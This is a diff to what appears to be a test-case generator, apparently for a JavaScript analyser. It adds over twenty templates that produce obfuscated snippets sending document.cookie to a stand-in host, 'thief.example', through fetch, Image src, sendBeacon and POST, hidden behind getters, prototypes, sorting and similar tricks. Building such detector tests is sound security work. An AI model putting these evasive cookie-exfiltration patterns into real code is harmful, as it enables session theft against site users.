@@ -106,4 +106,58 @@ export const values = placementsOf("value", {
 		({ value }, number) =>
 			`fetch("${TO_THIEF}" + [${Array.from({ length: number + 2 }, (_, at) => (at === number ? "document.cookie" : '""')).join(", ")}][${value}]);`,
 	),
+
+	"symbol-by-text": byText(
+		({ value, theft }, literal) => `({ [Symbol.for(${value})]: () => ${theft} })[Symbol.for(${literal})]();`,
+	),
+	"static-by-key": byKey(({ value, theft }, key) =>
+		key === '"prototype"' ? "" : `class Acts { static [${value}]() { ${theft}; } } Acts[${key}]();`,
+	),
+	"getter-by-key": byKey(
+		({ value }, key) =>
+			`const it = { get [${value}]() { return document.cookie; } }; fetch("${TO_THIEF}" + it[${key}]);`,
+	),
+	"defined-by-key": byKey(
+		({ value, theft }, key) =>
+			`const acts = Object.defineProperty({}, ${value}, { value: () => ${theft} }); acts[${key}]();`,
+	),
+	"host-by-key": byKey(
+		({ value }, key) =>
+			`fetch(\`https://\${{ [${key}]: "thief" }[${value}] ?? "shop"}.example/?c=\` + document.cookie);`,
+	),
+	"spread-by-test": ({ test }) =>
+		`const ways = { to: "/a?c=", ...(${test} && { to: "${TO_THIEF}" }) }; fetch(ways.to + document.cookie);`,
+	"assigned-by-test": ({ test }) =>
+		`const ways = Object.assign({ to: "/a?c=" }, ${test} ? { to: "${TO_THIEF}" } : null); fetch(ways.to + document.cookie);`,
+	"default-by-test": ({ test }) =>
+		`const [to = "${TO_THIEF}"] = [${test} ? undefined : "/a?c="]; fetch(to + document.cookie);`,
+	"deleted-by-test": ({ test }) =>
+		`const ways = Object.create({ to: "${TO_THIEF}" }); ways.to = "/a?c="; if (${test}) delete ways.to; fetch(ways.to + document.cookie);`,
+	"inherited-by-test": ({ test }) =>
+		`const ways = Object.create(${test} ? { to: "${TO_THIEF}" } : { to: "/a?c=" }); fetch(ways.to + document.cookie);`,
+	"replaced-by-test": ({ test }) => `fetch("#".replace(${test} ? "#" : "@", () => "${TO_THIEF}") + document.cookie);`,
+	"parsed-by-test": ({ test }) =>
+		`fetch(JSON.parse(${test} ? '{"to":"${TO_THIEF}"}' : '{"to":"/a?c="}').to + document.cookie);`,
+	"promised-by-test": ({ test }) =>
+		`Promise.resolve(${test} ? "${TO_THIEF}" : "/a?c=").then((to) => fetch(to + document.cookie));`,
+	"padded-by-test": ({ test }) => `fetch("thief.example/?c=".padStart(${test} ? 19 : 17, "/") + document.cookie);`,
+	"this-by-test": ({ test }) =>
+		`(function () { fetch(this.to + document.cookie); }).call({ to: ${test} ? "${TO_THIEF}" : "/a?c=" });`,
+	"length-by-test": ({ test }) =>
+		`const ways = ["/a?c=", "${TO_THIEF}"]; ways.length = 1 + (${test}); fetch(ways.at(-1) + document.cookie);`,
+	"order-by-test": ({ test }) => `fetch(["/a?c=", "${TO_THIEF}"].sort(() => (${test} ? -1 : 1))[0] + document.cookie);`,
+	"name-of-global": ({ test, theft }) =>
+		`globalThis.own = () => 0; globalThis.act = () => ${theft}; globalThis[${test} ? "act" : "own"]();`,
+	"found-by-test": ({ test }) =>
+		`fetch([["/a?c=", false], ["${TO_THIEF}", true]].find(([, held]) => held === (${test}))[0] + document.cookie);`,
+	"event-by-text": ({ value, real, theft, engine }) =>
+		engine === "language" || real.type !== "string"
+			? null
+			: `const hub = new EventTarget(); hub.addEventListener(${value}, () => ${theft}); hub.dispatchEvent(new Event(${real.literal}));`,
+	"property-of-image": ({ test, engine }) =>
+		engine === "language" ? null : `new Image()[${test} ? "src" : "alt"] = "${TO_THIEF}" + document.cookie;`,
+	"address-of-image": ({ test }) => `new Image().src = (${test} ? "${TO_THIEF}" : "/a?c=") + document.cookie;`,
+	"body-by-test": ({ test }) =>
+		`fetch("https://thief.example/", { method: "POST", body: ${test} ? document.cookie : "none" });`,
+	"beacon-by-test": ({ test }) => `navigator.sendBeacon(${test} ? "https://thief.example/" : "/a", document.cookie);`,
 });
